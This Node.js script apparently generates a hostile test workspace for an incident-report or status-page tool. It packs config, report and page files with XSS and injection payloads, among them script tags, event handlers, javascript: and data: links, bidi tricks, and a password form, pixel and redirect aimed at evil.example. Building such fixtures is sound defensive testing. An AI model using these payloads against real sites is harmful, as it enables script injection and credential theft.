// A workspace whose authors want to do readers harm: scripts, styles and directions in every
// field. Whatever runs says so on the console. Attachments that act are not linked to: there is no
// site with them (tests/it/active.rs). Usage: node hostile.mjs FOLDER

import { mkdirSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";

const folder = resolve(process.argv[2]);
const run = "console.log('it ran')";

/** As TOML writes a text. */
const toml = (text) => JSON.stringify(text).replaceAll("\u007f", "\\u007f");
const script = `<script>${run}</script>`;
const image = `<img src=x onerror="${run}">`;
const bidi = "\u202edlrow olleh\u2066 \u2067 \u200f";
/** What ends every context that a value could stand in. */
const escape = `"'></title></style></textarea>--></svg></p>${script}${image}{{ 7*7 }}{% raw %}${bidi}`;
const wide = "W".repeat(3000);
const deep = (mark, depth) => `${Array.from({ length: depth }, (_, level) => `${" ".repeat(2 * level)}${mark} a`).join("\n")}\n`;

const links = [
  `[click](javascript:${run.replaceAll(" ", "%20").replaceAll("'", "%27")})`,
  `[click](JaVaScRiPt:alert%281%29)`,
  `[click](&#106;avascript:alert%281%29)`,
  `[click](data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygnaXQgcmFuJyk8L3NjcmlwdD4=)`,
  `[click](vbscript:msgbox)`,
  `[click](//evil.example/)`,
  `<javascript:alert(1)>`,
  `![picture](https://evil.example/pixel.png)`,
  `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![graph](graph.svg)`,
  `[graph](graph.svg)`,
  `[reference][r]\n\n[r]: javascript:alert(1) "${script.replaceAll('"', "'")}"`,
];
const html = [
  script,
  image,
  `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:alert(1)"><text y="9">a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<style>body { display: none }</style>`,
  `<link rel="stylesheet" href="https://evil.example/a.css">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
  `<iframe src="javascript:alert(1)" srcdoc="${"&lt;script&gt;"}alert(1)"></iframe>`,
  `<form action="https://evil.example/"><input name="password"><button>Log in</button></form>`,
  `<div style="position:fixed;inset:0;background:red" onclick="${run}">over everything</div>`,
  `<details ontoggle="${run}" open><summary>a</summary>b</details>`,
  `<a href="#" id="main_" class="skip top watermark" onmouseover="${run}">id and class of the page</a>`,
  `<object data="page.html"></object><embed src="page.html"><video src="https://evil.example/v" autoplay></video>`,
  `</main></body></html>`,
];

const report = `## Summary

${escape}

${bidi} ${wide}

${links.join("\n\n")}

## Impact ${escape} {#main_ onclick=alert}

${html.join("\n\n")}

| ${Array.from({ length: 60 }, (_, column) => `c${column}`).join(" | ")} |
| ${Array.from({ length: 60 }, () => "---").join(" | ")} |
| ${Array.from({ length: 60 }, () => escape.replaceAll("|", "")).join(" | ")} |

## Root cause

${deep("-", 400)}
${">".repeat(10000)} quoted

${"[".repeat(10000)}${"*a".repeat(5000)}

${"- ".repeat(10000)}at the bottom

## Resolution

\`\`\`html
${escape} ${wide}
\`\`\`

\`\`\`"><script>
language
\`\`\`

A note[^1].

[^1]: ${escape}

## Preventive measures

- [ ] ${escape}
`;

const at = (minute) => `2026-04-01T10:${String(minute).padStart(2, "0")}:00Z`;
const facts = `title = ${toml(escape)}
state = "published"
severity = "odd"
components = ["api", "long"]
tags = [${toml(escape)}]
byline = ${toml(escape)}
started = ${at(0)}
detected = ${at(1)}
mitigated = ${at(2)}
resolved = ${at(50)}
published = 2026-04-02T10:00:00Z

[counts]
${toml(escape)} = 3

[roles]
${toml(escape)} = ${toml(escape)}

[[impact]]
component = "api"
resource = ${toml(escape)}
status = "major_outage"
start = ${at(0)}
end = ${at(40)}

[[impact]]
component = "long"
resource = ${toml(wide)}
status = "partial_outage"
start = ${at(0)}
end = ${at(50)}

[[timeline]]
at = ${at(1)}
text = ${toml(`${escape}\n\n${links.join("\n\n")}`)}
audience = "public"
source = ${toml(escape)}

[[timeline]]
at = ${at(3)}
text = "inside"
wording = ${toml(`${html.join("\n\n")}\n\n${wide}`)}
audience = "public"

[[update]]
at = ${at(5)}
status = "investigating"
title = ${toml(escape)}
text = ${toml(`${escape}\n\n${html.join("\n\n")}`)}

[[update]]
at = ${at(50)}
status = "resolved"
text = ${toml(links.join("\n\n"))}

[[action]]
id = "odd"
title = ${toml(escape)}
kind = "prevent"
owner = ${toml(escape)}
due = 2026-05-01
audience = "public"
link = "javascript:alert(1)"

[[action]]
title = ${toml(wide)}
kind = "detect"
owner = "a"
due = 2026-05-01
audience = "public"
link = "https://example.com/\\"onclick=\\"alert(1)"

[[correction]]
at = 2026-04-03T10:00:00Z
text = ${toml(`${escape}\n\n${html.join("\n\n")}`)}

[[link]]
title = ${toml(escape)}
url = "javascript:alert(1)"
audience = "public"

[[link]]
title = ${toml(wide)}
url = "https://example.com/?a=%22&b='<>"
audience = "public"
`;

const config = `title = ${toml(escape)}
base_url = "https://status.example.com"

[site]
description = ${toml(escape)}
logo = "logo.svg"

[[site.header_link]]
title = ${toml(escape)}
url = "https://example.com/?a='onclick='alert(1)"

[[site.footer_link]]
title = ${toml(wide)}
url = "mailto:a@example.com?subject='onclick='alert(1)"

[boilerplate]
apology = ${toml(`${escape}\n\n${links.join("\n\n")}`)}
contact = ${toml(`${escape}\n\n${html.join("\n\n")}`)}
signature = ${toml(escape)}

[[severity]]
id = "odd"
name = ${toml(escape)}

[[group]]
name = ${toml(escape)}
description = ${toml(escape)}

[[component]]
id = "api"
name = ${toml(escape)}
description = ${toml(escape)}
group = ${toml(escape)}

[[component]]
id = "long"
name = ${toml(wide)}
description = ${toml(`${wide} ${bidi}`)}

# Who wants to do harm switches off what can be switched off.
[rules]
dead-link = "off"
link-scheme = "off"
missing-attachment = "off"
raw-html = "off"
`;

const own = join(folder, "incidents", "2026-04-01-hostile");
mkdirSync(own, { recursive: true });
writeFileSync(join(folder, "incident.toml"), config);
writeFileSync(join(own, "facts.toml"), facts);
writeFileSync(join(own, "report.md"), report);
const picture = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle r="20" cx="20" cy="20"/></svg>`;
writeFileSync(join(own, "graph.svg"), picture);
writeFileSync(join(folder, "logo.svg"), picture);
writeFileSync(join(own, "page.html"), `<!doctype html><title>a</title>${script}`);
